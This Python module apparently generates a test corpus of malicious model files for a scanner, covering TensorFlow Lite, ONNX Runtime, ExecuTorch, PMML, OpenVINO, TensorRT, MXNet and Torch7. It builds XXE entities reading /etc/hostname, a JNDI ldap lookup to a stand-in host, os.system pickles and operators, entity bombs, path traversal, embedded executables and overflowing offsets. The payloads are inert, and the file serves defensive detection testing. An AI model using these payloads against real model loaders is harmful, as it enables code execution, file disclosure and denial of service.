"""Graphs and engines: TensorFlow Lite, ONNX Runtime, ExecuTorch, PMML, OpenVINO, TensorRT, MXNet, Torch7."""

import json
import struct

from malicious_files import SCRIPT, elf
from malicious_ops import PAYLOAD, URL, dump, system

GROUP = "graphs"


class Flat:
    """Writes a FlatBuffer front to back: a table is a dict of field number to (kind, value)."""

    def __init__(self, identifier, root, header=b""):
        self.out = bytearray(b"\0\0\0\0" + identifier + header)
        self.patch(0, self.table(root))

    def patch(self, at, target=None):
        struct.pack_into("<I", self.out, at, (len(self.out) if target is None else target) - at)

    def align(self, to):
        self.out += b"\0" * (-len(self.out) % to)

    def table(self, fields):
        width = {"u8": 1, "u64": 8}
        places, inline = {}, 4
        for number, (kind, _) in fields.items():
            size = width.get(kind, 4)
            inline += -inline % size
            places[number] = inline
            inline += size
        self.align(8)
        vtable = len(self.out)
        most = max(fields, default=-1) + 1
        self.out += struct.pack("<HH", 4 + 2 * most, inline)
        for number in range(most):
            self.out += struct.pack("<H", places.get(number, 0))
        self.align(8)
        start = len(self.out)
        self.out += struct.pack("<i", start - vtable) + b"\0" * (inline - 4)
        for number, (kind, value) in fields.items():
            at = start + places[number]
            if kind in ("u8", "u32", "u64", "i32"):
                struct.pack_into({"u8": "<B", "u32": "<I", "u64": "<Q", "i32": "<i"}[kind], self.out, at, value)
            elif kind in ("text", "bytes"):
                data = value.encode() if isinstance(value, str) else value
                self.align(16 if kind == "bytes" else 4)
                if kind == "bytes":
                    self.out += b"\0" * 12
                self.patch(at)
                self.out += struct.pack("<I", len(data)) + data + b"\0"
            elif kind == "numbers":
                self.align(4)
                self.patch(at)
                self.out += struct.pack("<I", len(value)) + struct.pack(f"<{len(value)}i", *value)
            elif kind == "table":
                self.patch(at, self.table(value))
            elif kind == "tables":
                self.align(4)
                self.patch(at)
                self.out += struct.pack("<I", len(value))
                first = len(self.out)
                self.out += b"\0" * (4 * len(value))
                for index, child in enumerate(value):
                    self.patch(first + 4 * index, self.table(child))
        return start


def flat(identifier, root, header=b""):
    """The bytes of a FlatBuffer."""
    return bytes(Flat(identifier, root, header).out)


def tflite(custom="", code=0, options=b"", inputs=(0,), tensor=0, opcode=0, buffers=(b"",), extra=None, operator=None, shape=(2, 2),
           graph_inputs=(0,)):
    """A model of one operator, whose parts can lie."""
    one = {0: ("u32", opcode), 1: ("numbers", inputs), 2: ("numbers", (1,))}
    if options:
        one[5] = ("bytes", options)
    one.update(operator or {})
    root = {
        0: ("u32", 3),
        1: ("tables", [{0: ("u8", min(code, 127)), 3: ("u32", code), **({1: ("text", custom)} if custom else {})}]),
        2: ("tables", [{
            0: ("tables", [{0: ("numbers", shape), 2: ("u32", tensor), 3: ("text", "in")}, {0: ("numbers", (2, 2)), 3: ("text", "out")}]),
            1: ("numbers", graph_inputs), 2: ("numbers", (1,)), 3: ("tables", [one]),
        }]),
        4: ("tables", [{0: ("bytes", data)} if isinstance(data, bytes) else data for data in buffers]),
    }
    root.update(extra or {})
    return flat(b"TFL3", root)


def flex(name, node=None):
    """A model with an operator of TensorFlow; `node` is what its options name."""
    node = node or name
    text = node.encode()
    options = bytes([len(name)]) + name.encode() + b"\0" + b"\x0a\x01n\x12" + bytes([len(text)]) + text + b"\x1a\x01x"
    return tflite("Flex" + name, 32, options)


def ort(domain, name, attributes=None, graph=None):
    """A session of one node."""
    listed = [{0: ("text", key), 2: ("u32", 3), 5: ("text", value)} for key, value in (attributes or {}).items()]
    node = {2: ("text", domain), 5: ("text", name), 10: ("tables", listed)}
    return flat(b"ORTM", {0: ("text", "6"), 1: ("table", {0: ("u64", 9), 7: ("table", graph or {2: ("tables", [node])})})}), node


def executorch(backend="XnnpackBackend", data=b"XN00" + b"\0" * 60, header=b"", segment=None, index=0):
    """A program of one plan with a delegate."""
    root = {0: ("u32", 0), 1: ("tables", [{
        0: ("text", "forward"), 6: ("tables", [{0: ("text", "aten::add"), 1: ("text", "out")}]),
        7: ("tables", [{0: ("text", backend), 1: ("table", {0: ("u8", 1 if segment else 0), 1: ("u32", index)})}])}]),
        3: ("tables", [{0: ("bytes", data)}])}
    if segment:
        root[4] = ("tables", [{0: ("u64", segment[0]), 1: ("u64", segment[1])}])
    return flat(b"ET12", root, header)


def pmml(inside="", doctype="", header="", encoding="UTF-8"):
    """A PMML document."""
    return (f'<?xml version="1.0" encoding="{encoding}"?>\n{doctype}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">'
            f'<Header description="model">{header}</Header><DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" '
            f'dataType="double"/></DataDictionary>{inside}</PMML>\n')


def apply(function, constant="echo CLEANBILL-INERT"):
    """A derived field that calls a function."""
    return (f'<TransformationDictionary><DerivedField name="d" optype="categorical" dataType="string"><Apply function="{function}">'
            f'<Constant dataType="string">{constant}</Constant></Apply></DerivedField></TransformationDictionary>')


def openvino(layer='<layer id="1" name="r" type="ReLU" version="opset1"/>', size=16, shape="2, 2", offset=0, doctype="", kind="f32"):
    """An IR of a constant and one layer."""
    return (f'<?xml version="1.0"?>\n{doctype}<net name="m" version="11"><layers><layer id="0" name="c" type="Const" version="opset1">'
            f'<data element_type="{kind}" shape="{shape}" offset="{offset}" size="{size}"/></layer>{layer}</layers></net>\n')


def engine(body, magic=b"ftrt"):
    """A TensorRT engine around some bytes."""
    return magic + struct.pack("<IIQ", 0, 0x1C, len(body)) + b"\0" * 48 + body + b"\0" * 64


def shared(machine=62):
    """A shared library without code."""
    return b"\x7fELF\2\1\1" + b"\0" * 9 + struct.pack("<HHI", 3, machine, 1) + b"\0" * 40


def symbol(nodes):
    """A graph of MXNet."""
    first = {"op": "null", "name": "data", "inputs": []}
    return json.dumps({"nodes": [first] + nodes, "arg_nodes": [0], "heads": [[1, 0, 0]]}, indent=2)


def params(shape=(2,), data=b"\0" * 8, count=1, after=b""):
    """Parameters of MXNet."""
    out = struct.pack("<QQQ", 0x112, 0, count) + struct.pack("<IiI", 0xF993FAC9, 0, len(shape)) + struct.pack(f"<{len(shape)}q", *shape)
    return out + struct.pack("<iii", 1, 0, 0) + data + struct.pack("<QQ", 1, 5) + b"arg:w" + after


BYTECODE = b"\x1bLJ\x02\x02" + b"\x06print" + b"\0" * 10


def t7_text(text):
    """A text object of Torch7."""
    data = text if isinstance(text, bytes) else text.encode()
    return struct.pack("<ii", 2, len(data)) + data


def t7_function(kind=8, index=5, code=BYTECODE):
    """A function object: its code, then a table of what it closes over."""
    return struct.pack("<iii", kind, index, len(code)) + code + struct.pack("<iii", 3, index + 1, 0)


def t7_table(pairs, index=1):
    """A table object."""
    return struct.pack("<iii", 3, index, len(pairs)) + b"".join(key + value for key, value in pairs)


def t7_class(name, body, index=1):
    """An object of a class."""
    raw = name.encode()
    return struct.pack("<iii", 4, index, 3) + b"V 1" + struct.pack("<i", len(raw)) + raw + body


def flatbuffers(corpus):
    """TensorFlow Lite, ONNX Runtime and ExecuTorch."""
    add = lambda slug, name, data, technique, **more: corpus.add(GROUP, slug, name, data, technique, **more)
    for name, what in (
        ("ReadFile", "reads a file"), ("WriteFile", "writes a file"), ("EagerPyFunc", "calls Python"), ("PyFuncStateless", "calls Python"),
        ("SaveV2", "writes a checkpoint"), ("RestoreV2", "reads a checkpoint"), ("MatchingFiles", "lists a folder"),
        ("TextLineDataset", "reads lines"), ("DebugIdentityV2", "sends tensors to an address"), ("RpcCall", "opens a connection"),
        ("InitializeTableFromTextFileV2", "reads a vocabulary"), ("CreateSummaryFileWriter", "writes a log"),
        ("ExperimentalSqlDataset", "opens a database"), ("GenerateVocabRemapping", "reads two files"), ("LoadAndRemapMatrix", "reads a checkpoint"),
        ("SnapshotDatasetV2", "writes a cache"), ("DataServiceDatasetV4", "asks a server"), ("RemoteCall", "runs a function elsewhere"),
    ):
        add(f"tflite-flex-{name.lower()}", "model.tflite", flex(name), f"Flex operator that {what}")
    add("tflite-flex-other-node", "model.tflite", flex("Erf", "WriteFile"), "the node names another operator than the name shows")
    add("tflite-flex-harmless-other-node", "model.tflite", flex("Erf", "Sinh"), "the node and the name differ")
    add("tflite-flex-unused-name", "model.tflite", tflite("FlexWriteFile", 32), "Flex operator without options")
    add("tflite-print-file", "model.tflite", tflite("FlexPrintV2", 32, b"\x12\x07PrintV2 output_stream file:///nonexistent/CLEANBILL-INERT"),
        "prints into a file")
    add("tflite-root-outside", "model.tflite", b"\x18\0\0\0TFL3", "root offset behind the end", note="tensorflow issue 115308")
    add("tflite-root-far", "model.lite", b"\xf0\xff\xff\x7fTFL3" + b"\0" * 64, "root offset of two gigabytes")
    add("tflite-vtable-outside", "model.tflite", b"\x0c\0\0\0TFL3\4\0\4\0" + struct.pack("<i", -0x7000000) + b"\0" * 32, "list of fields behind the end")
    add("tflite-buffer-index", "model.tflite", tflite(tensor=65535), "tensor names a buffer that does not exist")
    add("tflite-tensor-index", "model.tflite", tflite(inputs=(0, 70000)), "operator reads a tensor that does not exist")
    add("tflite-negative-tensor", "model.tflite", tflite(inputs=(-5,)), "negative index of a tensor")
    add("tflite-graph-input", "model.tflite", tflite(graph_inputs=(99,)), "graph input that does not exist")
    add("tflite-opcode-index", "model.tflite", tflite(opcode=4096), "operator code that does not exist")
    add("tflite-external-wrap", "model.tflite", tflite(buffers=(b"", {1: ("u64", 2**64 - 16), 2: ("u64", 64)})), "offset and size that wrap")
    add("tflite-external-outside", "model.tflite", tflite(buffers=(b"", {1: ("u64", 1 << 40), 2: ("u64", 64)})), "buffer behind the end")
    add("tflite-options-outside", "model.tflite", tflite("Own", 32, operator={9: ("u64", 2**63), 10: ("u64", 2**63)}), "options behind the end")
    add("tflite-shape-overflow", "model.tflite", tflite(shape=(2**31 - 1, 2**31 - 1, 2**31 - 1)), "size of a tensor overflows")
    add("tflite-shape-32-bits", "model.tflite", tflite(shape=(65536, 65537)), "elements that do not fit in 32 bits", advisory="CVE-2026-42627")
    add("tflite-negative-extent", "model.tflite", tflite(shape=(2, -2)), "negative extent")
    add("tflite-reshape-rank", "model.tflite", tflite(code=22, operator={3: ("u8", 17), 4: ("table", {0: ("numbers", (1,) * 22)})}),
        "shape longer than the tensor it is copied to", note="tensorflow issue 124982")
    add("tflite-elf-buffer", "model.tflite", tflite(buffers=(b"", elf() + b"\0" * 64)), "program in a buffer")
    add("tflite-pickle-buffer", "model.tflite", tflite(buffers=(b"", dump(system()) + b"\0" * 64)), "pickle in a buffer")
    add("tflite-metadata-index", "model.tflite", tflite(extra={6: ("tables", [{0: ("text", "min_runtime_version"), 1: ("u32", 77)}])}),
        "metadata names a buffer that does not exist")
    import io
    import zipfile
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(zipfile.ZipInfo("labels.txt"), "cat\n")
        archive.writestr(zipfile.ZipInfo("vocab.pkl"), dump(system()))
    add("tflite-associated-pickle", "model.tflite", tflite() + packed.getvalue(), "pickle among the files packed behind the model")
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(zipfile.ZipInfo("../../../tmp/labels.txt"), "cat\n")
    add("tflite-associated-traversal", "model.tflite", tflite() + packed.getvalue(), "packed file that leaves the folder")
    add("tflite-renamed", "weights.bin", flex("WriteFile"), "under a name that promises weights")
    add("tflite-no-identifier", "model.tflite", flex("WriteFile").replace(b"TFL3", b"\0\0\0\0", 1), "without the letters, which the runtime does not need")
    add("tflite-other-identifier", "model.bin", flex("WriteFile").replace(b"TFL3", b"TFL9", 1), "with letters of a version that does not exist")
    for slug, domain, name, attributes, what in (
        ("pyop", "pyop", "PyOp", {"module": "os", "class_name": "system"}, "operator that loads a Python module"),
        ("pythonop", "com.microsoft", "PythonOp", {"func_name": "os.system"}, "operator that calls a Python function"),
        ("pycustomop", "ai.onnx.contrib", "PyCustomOp", {"id": "1"}, "operator of Python in the extensions"),
        ("epcontext-traversal", "com.microsoft", "EPContext", {"ep_cache_context": "../../../tmp/x.bin"}, "engine outside of the folder"),
        ("epcontext-absolute", "com.microsoft", "EPContext", {"ep_cache_context": "/tmp/x.so"}, "engine at an absolute path"),
        ("epcontext-share", "com.microsoft", "EPContext", {"ep_cache_context": "\\\\host.example.invalid\\x"}, "engine on a share"),
    ):
        add(f"ort-{slug}", "model.ort", ort(domain, name, attributes)[0], what)
    inner = ort("com.microsoft", "PythonOp", {"func_name": "os.system"})[1]
    nested = {2: ("tables", [{2: ("text", ""), 5: ("text", "If"), 10: ("tables", [{0: ("text", "then_branch"), 2: ("u32", 5),
              7: ("table", {2: ("tables", [inner])})}])}])}
    add("ort-nested-pythonop", "model.ort", ort("", "", graph=nested)[0], "operator that calls Python within a branch")
    add("ort-initialiser-elf", "model.ort", ort("", "", graph={0: ("tables", [{0: ("text", "w"), 4: ("bytes", elf() + b"\0" * 64)}])})[0],
        "program in an initialiser")
    add("ort-root-outside", "model.ort", b"\xf0\xff\xff\x7fORTM" + b"\0" * 64, "root offset behind the end")
    whole = executorch()
    add("executorch-elf-delegate", "model.pte", executorch("CudaBackend", shared() + b"\0" * 64), "library in the data of a backend")
    add("executorch-script-delegate", "model.pte", executorch("OwnBackend", SCRIPT + b"\0" * 64), "script in the data of a backend")
    head = b"eh00" + struct.pack("<IQQQ", 32, len(whole), 64, 1 << 40)
    add("executorch-segment-bytes", "model.pte", executorch(header=head), "segments behind the end")
    head = b"eh00" + struct.pack("<IQQQ", 32, 2**63, 2**63, 0)
    add("executorch-program-size", "model.pte", executorch(header=head), "size of the program overflows")
    add("executorch-segment-wrap", "model.pte", executorch(segment=(2**64 - 8, 64)), "segment that wraps")
    add("executorch-segment-index", "model.pte", executorch(segment=(0, 8), index=9), "delegate names a segment that does not exist")
    add("executorch-root-outside", "model.pte", b"\xf0\xff\xff\x7fET12" + b"\0" * 64, "root offset behind the end")


def documents(corpus):
    """PMML, OpenVINO and XML of other kinds."""
    add = lambda slug, name, text, technique, **more: corpus.add(
        GROUP, slug, name, text if isinstance(text, bytes) else text.encode(), technique, textual=True, **more)
    for function in ("java.lang.Runtime.exec", "javax.script.ScriptEngineManager", "com.example.invalid.Payload", "org.python.util.PythonInterpreter",
                     "T(java.lang.Runtime).getRuntime"):
        add(f"pmml-function-{function.split('.')[-1].lower()}", "model.pmml", pmml(apply(function)), f"calls the class {function}")
    for slug, value in (
        ("runtime", "java.lang.Runtime.getRuntime().exec(\"echo CLEANBILL-INERT\")"), ("jndi", "${jndi:ldap://cleanbill.example.invalid/a}"),
        ("python", PAYLOAD if isinstance(PAYLOAD, str) else "__import__('os').system('echo CLEANBILL-INERT')"), ("spel", "#{T(java.lang.System).exit(0)}"),
        ("javascript", "<![CDATA[<script>print('CLEANBILL-INERT')</script>]]>"), ("escaped", "java&#46;lang&#46;Runtime"),
        ("groovy", "groovy: 'echo CLEANBILL-INERT'.execute()"), ("shell", "bash -c 'echo CLEANBILL-INERT'"),
    ):
        inside = value if value.startswith("<![") else value.replace("<", "&lt;")
        add(f"pmml-extension-{slug}", "model.pmml", pmml(header=f'<Extension name="post">{inside}</Extension>'), f"code in an extension: {slug}")
    add("pmml-extension-attribute", "model.pmml", pmml(header='<Extension name="run" value="java.lang.ProcessBuilder"/>'), "class in an attribute")
    add("pmml-extension-nested", "model.pmml", pmml(header='<Extension><a><b><c>Runtime.getRuntime()</c></b></a></Extension>'), "code deep in an extension")
    add("pmml-include", "model.pmml", pmml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>'), "includes a file")
    add("pmml-stylesheet", "model.pmml", pmml().replace("?>", f'?><?xml-stylesheet type="text/xsl" href="{URL}"?>', 1), "style sheet from an address")
    external = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'
    add("pmml-xxe", "model.pmml", pmml(doctype=external).replace("model", "&x;", 1), "external entity")
    add("pmml-xxe-http", "model.pmml", pmml(doctype=f'<!DOCTYPE PMML [<!ENTITY x PUBLIC "a" "{URL}">]>\n'), "external entity from an address")
    add("pmml-xxe-parameter", "model.pmml", pmml(doctype=f'<!DOCTYPE PMML [<!ENTITY % p SYSTEM "{URL}"> %p;]>\n'), "external parameter entity")
    add("pmml-xxe-dtd", "model.pmml", pmml(doctype=f'<!DOCTYPE PMML SYSTEM "{URL}">\n'), "declarations from an address")
    add("pmml-xxe-utf16", "model.pmml", ("\ufeff" + pmml(doctype=external, encoding="UTF-16")).encode("utf-16-le"), "external entity in UTF-16")
    add("pmml-xxe-utf16-no-mark", "model.pmml", pmml(doctype=external, encoding="UTF-16").encode("utf-16-be"), "external entity in UTF-16 without a mark")
    add("pmml-xxe-utf32", "model.pmml", pmml(doctype=external, encoding="UTF-32").encode("utf-32-le"), "external entity in UTF-32")
    late = "<!DOCTYPE PMML [<!-- " + "padding ]> " * 2000 + "-->\n<!ENTITY x SYSTEM 'file:///etc/hostname'>]>\n"
    add("pmml-xxe-late", "model.pmml", pmml(doctype=late), "external entity behind 20 KB of comment")
    add("pmml-xxe-after-bracket", "model.pmml", pmml(doctype="<!DOCTYPE PMML [<!ENTITY a ']>'><!ENTITY x SYSTEM '\\\\host.example.invalid\\a'>]>\n"),
        "external entity behind a quoted end")
    steps = "".join(f'<!ENTITY l{n} "{(f"&l{n - 1};" * 10) if n else "lol"}">' for n in range(10))
    add("pmml-billion-laughs", "model.pmml", pmml(doctype=f"<!DOCTYPE PMML [{steps}]>\n").replace("model", "&l9;", 1), "billion laughs")
    add("pmml-quadratic", "model.pmml", pmml("<Extension>" + "&a;" * 2000 + "</Extension>", f'<!DOCTYPE PMML [<!ENTITY a "{"x" * 20000}">]>\n'),
        "one large entity used 2,000 times")
    add("pmml-circle", "model.pmml", pmml(doctype='<!DOCTYPE PMML [<!ENTITY a "&b;"><!ENTITY b "&a;">]>\n'), "entity that contains itself")
    steps = "".join(f"<!ENTITY % p{n} '{(f'&#37;p{n - 1};' * 20) if n else 'x' * 100}'>" for n in range(6))
    add("pmml-parameter-bomb", "model.pmml", pmml(doctype=f"<!DOCTYPE PMML [{steps}]>\n"), "parameter entities that grow")
    add("pmml-xxe-nested", "model.pmml", pmml(doctype='<!DOCTYPE PMML [<!ENTITY % a "&#60;!ENTITY x SYSTEM \'file:///etc/hostname\'>"> %a;]>\n'),
        "external entity declared within a value")
    add("pmml-xxe-assembled", "model.pmml", pmml(doctype='<!DOCTYPE PMML [<!ENTITY % k "ENTITY"><!ENTITY % a "<!&#37;k; x SYS&#84;EM \'file:///x\'>"> %a;]>\n'),
        "external entity put together from values")
    add("pmml-utf-7", "model.pmml", pmml(encoding="UTF-7").replace("<Header", "+ADwAIQ-ENTITY"), "text hidden by an encoding")
    add("xml-xxe", "anchors.xml", f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{URL}">]><a>&x;</a>\n', "external entity in another document")
    add("svg-xxe", "card.svg", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg><text>&x;</text></svg>\n',
        "external entity in a picture")
    layer = '<layer id="1" name="r" type="Own" version="extension"><data {}="{}"/></layer>'
    for slug, key, value in (("library", "library", "./libown.so"), ("windows-library", "extension_path", "own.dll"), ("python", "script", "own.py"),
                             ("kernel-outside", "kernel", "../../own.cl")):
        add(f"openvino-{slug}", "model.xml", openvino(layer.format(key, value)), f"layer that names {value}")
    add("openvino-xxe", "model.xml", openvino(doctype='<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'), "external entity")
    add("openvino-small-constant", "model.xml", openvino(size=4), "constant smaller than its shape")
    add("openvino-shape-overflow", "model.xml", openvino(shape="4294967296, 4294967296, 4"), "shape that overflows")
    add("openvino-offset-overflow", "model.xml", openvino(offset=2**64 - 8), "offset and size that wrap")
    add("openvino-negative-size", "model.xml", openvino(size=-1), "negative size")
    kernel = ('<CustomLayer name="Own" type="SimpleGPU" version="1"><Kernel entry="own"><Source filename="/opt/own.cl"/></Kernel></CustomLayer>\n')
    add("openvino-custom-layer", "custom.xml", kernel, "kernel at an absolute path")


def engines(corpus):
    """TensorRT, MXNet and Torch7."""
    add = lambda slug, name, data, technique, **more: corpus.add(GROUP, slug, name, data, technique, **more)
    add("tensorrt-plugin-library", "model.engine", engine(b"\0" * 300 + shared() + b"\0" * 300), "plugin library in an engine")
    add("tensorrt-plugin-arm", "model.plan", engine(b"\0" * 300 + shared(183), b"ptrt"), "plugin library for ARM")
    windows = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0\x64\x86" + b"\0" * 40
    add("tensorrt-plugin-windows", "model.engine", engine(b"\0" * 300 + windows), "plugin library for Windows")
    add("tensorrt-plugin-late", "model.engine", engine(b"\0" * ((1 << 20) - 80) + shared()), "plugin library across a megabyte")
    add("tensorrt-plugin-behind-kernels", "model.engine", engine(shared(190) * 100 + shared()), "plugin library behind kernels")
    meta = json.dumps({"task": "detect"}).encode()
    add("tensorrt-behind-json", "model.engine", struct.pack("<i", len(meta)) + meta + engine(shared()), "plugin library behind a preface of JSON")
    for slug, op, attrs, what in (
        ("custom", "Custom", {"op_type": "own"}, "operator of a Python class"), ("native", "_Native", {"info": "140737488355328"}, "operator by address"),
        ("ndarray", "_NDArray", {"info": "140737488355328"}, "operator by address"), ("function", "_CustomFunction", {}, "operator of a Python function"),
        ("library", "FullyConnected", {"library": "libown.so"}, "library that is named by an attribute"),
        ("traversal", "FullyConnected", {"filename": "../../own.params"}, "file outside of the folder"),
    ):
        add(f"mxnet-{slug}", "model-symbol.json", symbol([{"op": op, "name": "n", "attrs": attrs, "inputs": [[0, 0, 0]]}]).encode(), what, textual=True)
    add("mxnet-escaped-custom", "model-symbol.json", symbol([{"op": "Custom", "name": "n", "inputs": []}]).replace("Custom", "\\u0043ustom").encode(),
        "operator of a Python class, written with an escape", textual=True)
    add("mxnet-params-elf", "model.params", params((96,), elf() + b"\0" * (96 * 4 - len(elf()))), "program in an array")
    add("mxnet-params-after", "model.params", params(after=dump(system())), "pickle behind the arrays")
    words = struct.pack("<11I", 1, 8, 256, 2, 1, 4, 0, 0, 0, 0, 0)[:28]
    head = b"ggml"[::-1] + words + struct.pack("<I", 1) + b"a"
    one = struct.pack("<IIII", 1, 1, 0, 96) + b"w"
    add("ggml-pickle-after", "model.bin", head + one + b"\0" * 384 + dump(system()), "pickle behind the tensors")
    add("ggml-program-tensor", "model.bin", head + one + elf().ljust(384, b"\0"), "program in a tensor")
    add("torch7-function", "model.t7", t7_table([(t7_text("forward"), t7_function())]), "function in a table")
    add("torch7-function-first", "model.t7", t7_function(index=1), "function as the outermost object")
    add("torch7-old-function", "model.t7", t7_table([(t7_text("f"), t7_function(6))]), "function of the first kind")
    add("torch7-source-function", "model.t7", t7_table([(t7_text("f"), t7_function(7, code=b"print('CLEANBILL-INERT')"))]), "function as source")
    add("torch7-other-index", "model.t7", t7_table([(t7_text("f"), t7_function(index=700))], 300), "function in a table with an odd index")
    add("torch7-function-key", "model.t7", t7_table([(t7_function(), t7_text("x"))]), "function as a key")
    add("torch7-function-class", "net.t7", t7_class("nn.Sequential", t7_table([(t7_text("updateOutput"), t7_function())], 2)), "function in a field of a network")
    inner = t7_function(index=9)
    for level in range(30):
        inner = t7_table([(struct.pack("<id", 1, 1.0), inner)], 50 + level)
    add("torch7-function-deep", "model.t7", t7_table([(t7_text("a"), inner)]), "function thirty tables deep")
    storage = t7_class("torch.FloatStorage", struct.pack("<q", 2) + b"\0" * 8, 3)
    tensor = t7_class("torch.FloatTensor", struct.pack("<iqqq", 1, 2, 1, 1) + storage, 2)
    add("torch7-function-after-tensor", "model.t7", t7_table([(t7_text("w"), tensor), (t7_text("f"), t7_function())]), "function behind a tensor")
    add("torch7-function-text", "model.t7", b"3\n1\n1\n2\n1\nf\n8\n2\n6\n\x1bLJ\x02\x02x\n3\n3\n0\n", "function in a file in text form")
    add("torch7-renamed", "weights.bin", t7_table([(t7_text("f"), t7_function())]), "under a name that promises weights")


def build(corpus):
    """Adds every sample."""
    flatbuffers(corpus)
    documents(corpus)
    engines(corpus)
